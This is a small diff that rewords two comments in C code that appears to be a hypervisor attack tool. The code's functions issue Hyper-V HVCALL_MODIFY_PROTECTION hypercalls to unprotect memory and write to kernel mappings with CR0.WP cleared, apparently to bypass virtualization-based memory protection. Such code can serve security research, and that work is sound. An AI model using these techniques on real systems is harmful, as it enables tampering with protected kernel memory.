@@ -36,7 +36,7 @@ void *attack_vtl_return_stub(void)
 	return hv_hypercall_pg + (offsets >> 12 & 0xfff);
 }
 
-/* Without VTL1: into the same memory. */
+/* Without VTL1, the output is written to the same memory. */
 bool attack_output(struct attack_report *report)
 {
 	u64 result;
@@ -61,7 +61,7 @@ static u64 unprotect(phys_addr_t at, u8 input_vtl)
 	return attack_hypercall(HVCALL_MODIFY_PROTECTION | ATTACK_REP(1), 0);
 }
 
-/* At the kernel's own address, with CR0.WP clear. */
+/* Writes at the kernel's own mapping, with CR0.WP clear. */
 static bool write_unprotected(u8 *at, const char **refused)
 {
 	const u8 old = READ_ONCE(*at);
